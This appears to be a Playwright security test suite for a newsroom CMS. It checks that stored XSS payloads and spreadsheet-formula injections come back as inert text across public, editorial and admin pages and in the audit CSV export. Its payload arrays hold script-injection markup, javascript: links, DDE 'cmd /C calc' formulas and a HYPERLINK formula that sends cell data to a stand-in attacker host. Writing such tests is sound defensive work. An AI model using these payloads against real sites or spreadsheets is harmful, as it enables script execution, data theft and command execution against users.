import { expect, test, type Browser, type Page } from "@playwright/test";
import { storageStateFor } from "../support/accounts";
import { createTestUser } from "../support/database";
import { E2E_BASE_URL } from "../support/settings";
import { outcomeOf, replayAction } from "./actions";
import { expectApiError, inBatches, signedIn, signInWith } from "./fixtures";
import { unpublish } from "./stories";
import { Tally } from "./tally";

const tally = new Tally("stored XSS and CSV formulas");

/** Markup that runs script if any page writes it as HTML: each raises a dialog or sets window.__xss. */
const HTML = [
  `<script>alert("xss-1");window.__xss=1</script>`,
  `<img src=x onerror="alert('xss-2');window.__xss=2">`,
  `"><svg onload="alert('xss-3');window.__xss=3">`,
  `</title><script>alert("xss-4");window.__xss=4</script>`,
  `'><iframe src="javascript:alert('xss-5')"></iframe>`,
  `<a href="javascript:alert('xss-6')">xss-6</a>`,
  `<details open ontoggle="alert('xss-7');window.__xss=7">`,
  `javascript:alert('xss-8')//`,
  `{{constructor.constructor('alert("xss-9")')()}}`,
  `<!--<img src=x onerror=alert('xss-10')>-->`,
  `<style>@import'//evil.example/x.css';</style>`,
];
/** Cells a spreadsheet would run as formulas (CSV injection). */
const FORMULAS = [`=HYPERLINK("https://evil.example/?leak="&A1,"open")`, `+cmd|' /C calc'!A0`, `@SUM(1+9)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`];
const PAYLOADS = [...HTML, ...FORMULAS];

/** Link targets a story body must refuse: only http, https and mailto links are stored. */
const BAD_HREFS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "javascript&colon;alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.example/x",
  "/relative",
];

const paragraph = (text: string, marks?: unknown[]) => ({ type: "paragraph", content: [{ type: "text", text, ...(marks ? { marks } : {}) }] });

test("every text field a user can write stores hostile text and gives it back exactly as typed; javascript: links are refused", async ({ browser }) => {
  test.setTimeout(90_000);
  const [editor, admin] = await Promise.all([signedIn(browser, "editor"), signedIn(browser, "admin")]);
  const stamp = Date.now().toString(36);
  const check = async (response: import("@playwright/test").APIResponse, what: string, status: number) => {
    await tally.check(response, what);
    expect(response.status(), `${what}: ${(await response.text()).slice(0, 200)}`).toBe(status);
    return response.status() === 204 ? null : ((await response.json()) as Record<string, unknown>);
  };
  const section = (await check(
    await admin.request.post("/api/v1/sections", { data: { slug: `xss-api-${stamp}`, nameAr: "قسم", nameEn: "Section" } }),
    "section",
    201,
  ))!;
  await check(await admin.request.patch(`/api/v1/sections/${section.id}`, { data: { hidden: true } }), "hide section", 200);
  const person = (await check(
    await admin.request.post("/api/v1/users", { data: { name: "Someone", email: `xss-api-${stamp}-1@example.test`, role: "reporter" } }),
    "invite",
    201,
  ))!;

  // Each payload through a story's fields, a few stories at a time ...
  const stories = inBatches([...PAYLOADS.entries()], 3, async ([i, p]) => {
    const headline = `${p} ${stamp}-${i}`;
    const created = (await check(
      await editor.request.post("/api/v1/articles", { data: { headline, dek: p, bodyText: `${p}\n\nاقرأ المزيد: ${p}`, section: "world", language: "en" } }),
      `create ${p}`,
      201,
    ))!;
    const story = (await check(await editor.request.get(`/api/v1/articles/${created.id}`), `read ${p}`, 200))!;
    expect(story.working).toMatchObject({
      headline,
      dek: p,
      body: { type: "doc", content: [paragraph(p), { type: "relatedStory", attrs: { articleId: null, headline: p } }] },
    });

    await check(
      await editor.request.patch(`/api/v1/articles/${created.id}`, { data: { version: 1, headline: `${p} ${stamp}-${i} edited`, dek: `${p}!` } }),
      `edit ${p}`,
      200,
    );
    const edited = (await check(await editor.request.get(`/api/v1/articles/${created.id}`), `read edit ${p}`, 200))!;
    expect(edited.working).toMatchObject({ headline: `${p} ${stamp}-${i} edited`, dek: `${p}!` });

    // A note that starts with "@SUM(…" mentions someone nobody is called: refused by name, nothing written.
    const mentionsNobody = p.startsWith("@");
    const note = await check(await editor.request.post(`/api/v1/articles/${created.id}/notes`, { data: { body: p } }), `note ${p}`, mentionsNobody ? 400 : 201);
    if (mentionsNobody) expect(note).toMatchObject({ error: { reason: "mention_unknown" } });
    expect(
      ((await check(await editor.request.get(`/api/v1/articles/${created.id}/notes`), `notes ${p}`, 200)) as unknown as { body: string }[]).map((n) => n.body),
    ).toEqual(mentionsNobody ? [] : [p]);

    await check(
      await editor.request.post(`/api/v1/articles/${created.id}/transitions`, { data: { to: "archived", version: 2, reason: p } }),
      `spike ${p}`,
      200,
    );
    const revisions = (await check(await editor.request.get(`/api/v1/articles/${created.id}/revisions`), `revisions ${p}`, 200)) as unknown as {
      reason: string | null;
    }[];
    expect(revisions[0]!.reason).toBe(p);

    const imported = (await check(
      // (A paragraph that is only a visible section's name would be read as that section's footer.)
      await editor.request.post("/api/v1/articles/import?section=world&language=en", {
        data: `${p} ${stamp}-${i} wire\n\n${p} ${stamp}\n\nRead more: ${p}`,
        headers: { "Content-Type": "text/plain" },
      }),
      `import ${p}`,
      201,
    ))!;
    expect(imported).toMatchObject({
      headline: `${p} ${stamp}-${i} wire`,
      unresolved: [p],
      working: { body: { type: "doc", content: [paragraph(`${p} ${stamp}`), { type: "relatedStory", attrs: { articleId: null, headline: p } }] } },
    });
  });

  // ... while the section and the person are renamed through every payload, one after another.
  for (const p of PAYLOADS) {
    await check(await admin.request.patch(`/api/v1/sections/${section.id}`, { data: { nameAr: p, nameEn: `${p}.` } }), `section names ${p}`, 200);
    const sections = (await check(await admin.request.get("/api/v1/sections"), "sections", 200)) as unknown as { id: string; nameAr: string; nameEn: string }[];
    expect(sections.find((s) => s.id === section.id)).toMatchObject({ nameAr: p, nameEn: `${p}.` });

    await check(await admin.request.patch(`/api/v1/users/${person.id}`, { data: { name: p } }), `person name ${p}`, 200);
    expect(await check(await admin.request.get(`/api/v1/users/${person.id}`), `person ${p}`, 200)).toMatchObject({ name: p });
  }
  await stories;

  // A link mark that is not http, https or mailto is refused by the schema, on create and on edit.
  const draft = (await check(
    await editor.request.post("/api/v1/articles", { data: { headline: `links ${stamp}`, bodyText: "x", section: "world", language: "en" } }),
    "draft",
    201,
  ))!;
  await inBatches(BAD_HREFS, 3, async (href) => {
    const body = { type: "doc", content: [paragraph("click", [{ type: "link", attrs: { href } }])] };
    const create = await tally.check(
      await editor.request.post("/api/v1/articles", { data: { headline: `link ${stamp}`, body, section: "world", language: "en" } }),
      `create link ${href}`,
    );
    expect((await expectApiError(create, 400, "invalid")).fields).toHaveProperty("body");
    const edit = await tally.check(await editor.request.patch(`/api/v1/articles/${draft.id}`, { data: { version: 1, body } }), `edit link ${href}`);
    expect((await expectApiError(edit, 400, "invalid")).fields).toHaveProperty("body");
  });
  expect(await check(await editor.request.get(`/api/v1/articles/${draft.id}`), "draft after", 200)).toMatchObject({ version: 1 });
  await Promise.all([editor.close(), admin.close()]);
});

/** A page as `role` (or a reader) sees it, watched for any dialog. */
async function open(browser: Browser, role: "reporter" | "editor" | "admin" | null) {
  const context = await browser.newContext({
    baseURL: E2E_BASE_URL,
    locale: "en-US",
    storageState: role ? storageStateFor(role) : { cookies: [], origins: [] },
  });
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return { page, dialogs, close: () => context.close() };
}

/** What a payload would leave behind had it been written as HTML: a flag, a handler, a javascript: address, an element. */
function planted(page: Page) {
  return page.evaluate(() => {
    const found: string[] = [];
    if ((window as { __xss?: unknown }).__xss !== undefined) found.push(`window.__xss = ${String((window as { __xss?: unknown }).__xss)}`);
    for (const el of Array.from(document.querySelectorAll("*"))) {
      for (const attr of Array.from(el.attributes)) {
        if (/^on/i.test(attr.name) && /xss|alert/i.test(attr.value)) found.push(`<${el.localName} ${attr.name}>`);
        // React's own placeholder on forms whose action is a function is the one javascript: address a page may hold.
        const reactForm = attr.value.startsWith("javascript:throw new Error('A React form was unexpectedly submitted.");
        if (/^(href|src|action|formaction)$/i.test(attr.name) && /^\s*(javascript|data|vbscript):/i.test(attr.value) && !reactForm)
          found.push(`<${el.localName} ${attr.name}="${attr.value}">`);
      }
    }
    for (const script of Array.from(document.scripts)) if (/^\s*(alert\("xss|window\.__xss)/.test(script.text)) found.push(`<script>${script.text}`);
    for (const style of Array.from(document.querySelectorAll("style"))) if (style.textContent?.includes("evil.example")) found.push("<style> from a payload");
    return found;
  });
}

/**
 * Opens `path`, lets handlers that would fire do so, and checks that nothing
 * ran, every text in `shown` is on the page as text and every one in `typed`
 * is the value of a form field.
 */
async function expectInert(view: Awaited<ReturnType<typeof open>>, path: string, shown: string[], typed: string[] = []) {
  const response = await view.page.goto(path);
  await tally.check(response!, `page ${path}`);
  expect(response!.status(), path).toBe(200);
  // Error and toggle events fire in the tasks after load.
  await view.page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 150)));
  expect(await planted(view.page), path).toEqual([]);
  expect(view.dialogs, path).toEqual([]);
  const text = await view.page.locator("body").innerText();
  for (const expected of shown) expect(text, `${path} shows ${expected} as text`).toContain(expected);
  const values = await view.page.locator("input, textarea").evaluateAll((fields) => fields.map((f) => (f as HTMLInputElement).value));
  for (const expected of typed) expect(values, `${path} has ${expected} in a field`).toContain(expected);
  return text;
}

/** RFC 4180 CSV: quoted cells, doubled quotes, line breaks inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted) {
      cell += c;
    } else if (c === ",") {
      endCell();
    } else if (c === "\n" || c === "\r") {
      if (c === "\r" && text[i + 1] === "\n") i++;
      endCell();
      rows.push(row);
      row = [];
    } else {
      cell += c;
    }
  }
  if (cell !== "" || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

test("hostile text reads back inert and literal on the public page, the desk, the history, the audit log, and as text in its CSV", async ({ browser }) => {
  test.setTimeout(120_000);
  const stamp = Date.now().toString(36);
  const [editor, admin] = await Promise.all([signedIn(browser, "editor"), signedIn(browser, "admin")]);

  // The author names themself through the profile form's action: a formula that is also markup.
  const NAME = `=HYPERLINK("https://evil.example","x")<img src=x onerror="alert('xss-name');window.__xss='name'">`;
  const writer = await createTestUser("reporter", { locale: "en" });
  const author = await signInWith(browser, writer.email, writer.password);
  const renamed = await outcomeOf(
    await tally.check(await replayAction(author.request, "updateProfileAction", "/dashboard/profile", { name: NAME, locale: "en" }), "profile name"),
  );
  expect(renamed.state, JSON.stringify(renamed)).toMatchObject({ ok: true });
  // People whose names start with the other formula characters, each leaving a row in the log.
  const formulaPeople = await Promise.all(FORMULAS.slice(1).map((name) => createTestUser("reporter", { name })));

  // Unique names: an imported line that equals a visible section's name is read as that section's footer.
  const sectionNames = { nameAr: `${HTML[1]} ${stamp}`, nameEn: `${HTML[3]} ${stamp}` };
  const section = (await (await admin.request.post("/api/v1/sections", { data: { slug: `xss-${stamp}`, ...sectionNames } })).json()) as {
    id: string;
    slug: string;
  };
  const invited = (await (
    await admin.request.post("/api/v1/users", { data: { name: `${HTML[6]} ${stamp}`, email: `xss-${stamp}-1@example.test`, role: "reporter" } })
  ).json()) as { id: string };

  const headline = `${HTML[0]} ${HTML[3]} ${stamp}`;
  const dek = HTML.slice(1, 8).join(" ");
  const related = (await (
    await author.request.post("/api/v1/articles", { data: { headline: `related ${stamp}`, bodyText: "x", section: section.slug, language: "ar" } })
  ).json()) as { id: string };
  const body = {
    type: "doc",
    content: [
      ...PAYLOADS.map((p) => paragraph(p)),
      { type: "heading", attrs: { level: 2 }, content: [{ type: "text", text: HTML[2] }] },
      { type: "blockquote", content: [paragraph(HTML[4]!)] },
      { type: "bulletList", content: [{ type: "listItem", content: [paragraph(HTML[6]!)] }] },
      paragraph("a link", [{ type: "link", attrs: { href: `https://example.test/?q="><script>alert('xss-href')</script>` } }]),
      // Linked to a story, as publishing requires; the block keeps its own (hostile) headline.
      { type: "relatedStory", attrs: { articleId: related.id, headline: HTML[5] } },
    ],
  };
  const created = await author.request.post("/api/v1/articles", { data: { headline, dek, body, section: section.slug, language: "ar" } });
  expect(created.status(), await created.text()).toBe(201);
  const { id, slug } = (await created.json()) as { id: string; slug: string };
  const step = async (client: typeof author, to: string, reason?: string) => {
    const { version } = (await (await editor.request.get(`/api/v1/articles/${id}`)).json()) as { version: number };
    const response = await client.request.post(`/api/v1/articles/${id}/transitions`, { data: { to, version, ...(reason ? { reason } : {}) } });
    expect(response.status(), `${to}: ${await response.text()}`).toBe(200);
  };
  await step(author, "in_review");
  await step(editor, "changes_requested", HTML[4]);
  await step(author, "in_review");
  await step(editor, "approved");
  await step(editor, "published");
  for (const note of HTML) expect((await editor.request.post(`/api/v1/articles/${id}/notes`, { data: { body: note } })).status()).toBe(201);
  await Promise.all(
    formulaPeople.map(async (person) => {
      const client = await signInWith(browser, person.email, person.password);
      // Written after a colon, a name starting with @ is not read as a mention.
      expect((await client.request.post(`/api/v1/articles/${id}/notes`, { data: { body: `from:${person.name}` } })).status()).toBe(201);
      await client.close();
    }),
  );
  const importedHeadline = `${HTML[5]} ${stamp} wire`;
  const imported = await author.request.post("/api/v1/articles/import?section=world", {
    data: `${importedHeadline}\n\n${HTML[0]}\n\nاقرأ المزيد: ${HTML[1]}`,
    headers: { "Content-Type": "text/plain" },
  });
  expect(imported.status(), await imported.text()).toBe(201);

  // Each surface, once, as the people who see it: the three at the same time.
  const views = await Promise.all([open(browser, null), open(browser, "editor"), open(browser, "admin")]);
  const [reader, desk, office] = views as [Awaited<ReturnType<typeof open>>, Awaited<ReturnType<typeof open>>, Awaited<ReturnType<typeof open>>];
  await Promise.all([
    (async () => {
      const publicText = await expectInert(reader, `/${section.slug}/${encodeURIComponent(slug)}`, [...PAYLOADS, HTML[2]!, NAME, sectionNames.nameAr]);
      expect(publicText).toContain(`${HTML[0]} ${HTML[3]}`);
      expect(await reader.page.title()).toContain(HTML[3]);
      await expect(reader.page.getByRole("heading", { level: 1 })).toHaveText(headline);
    })(),
    (async () => {
      await expectInert(desk, `/dashboard/articles/${id}`, [...HTML, NAME, ...FORMULAS.slice(1).map((n) => `from:${n}`)], [headline, dek]);
      await expectInert(desk, `/dashboard/articles?q=${encodeURIComponent(stamp)}`, [headline, importedHeadline, NAME]);
      await expectInert(desk, `/dashboard/articles/${id}/history`, [HTML[4]!, headline]);
    })(),
    (async () => {
      await expectInert(office, `/admin/audit?objectId=${id}`, [NAME, headline, HTML[4]!]);
      await expectInert(office, `/admin/audit?objectId=${section.id}`, [sectionNames.nameAr, sectionNames.nameEn]);
      await expectInert(office, `/admin/users?q=${stamp}`, [`${HTML[6]} ${stamp}`]);
      await expectInert(office, "/admin/sections", [], [sectionNames.nameAr, sectionNames.nameEn]);
    })(),
  ]);
  await Promise.all(views.map((v) => v.close()));

  // The audit CSV: every payload present as text, no cell a spreadsheet would run.
  for (const objectId of [id, section.id, invited.id]) {
    const response = await tally.check(await admin.request.get(`/api/v1/audit/export?objectId=${objectId}`), `CSV ${objectId}`);
    const text = (await response.text()).replace(/^\uFEFF/, "");
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(["id", "time", "actor_id", "actor", "action", "object_type", "object_id", "object_name", "before", "after", "ip"]);
    const risky = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(risky, `CSV for ${objectId}: cells a spreadsheet would run`).toEqual([]);
    if (objectId === id) {
      const actors = new Set(rows.slice(1).map((r) => r[3]));
      expect(actors).toContain(`'${NAME}`);
      for (const person of formulaPeople) expect(actors).toContain(`'${person.name}`);
      expect(rows.some((r) => r[9]?.includes(JSON.stringify(headline).slice(1, -1)))).toBe(true);
      expect(rows.some((r) => r[9]?.includes(JSON.stringify(HTML[4]).slice(1, -1)))).toBe(true);
    }
    if (objectId === section.id) expect(rows.some((r) => r[9]?.includes(JSON.stringify(sectionNames.nameEn).slice(1, -1)))).toBe(true);
    if (objectId === invited.id) expect(rows.some((r) => r[9]?.includes(JSON.stringify(`${HTML[6]} ${stamp}`).slice(1, -1)))).toBe(true);
  }

  await unpublish(editor.request, [id]);
  await admin.request.patch(`/api/v1/sections/${section.id}`, { data: { hidden: true } });
  await Promise.all([editor.close(), admin.close(), author.close()]);
});
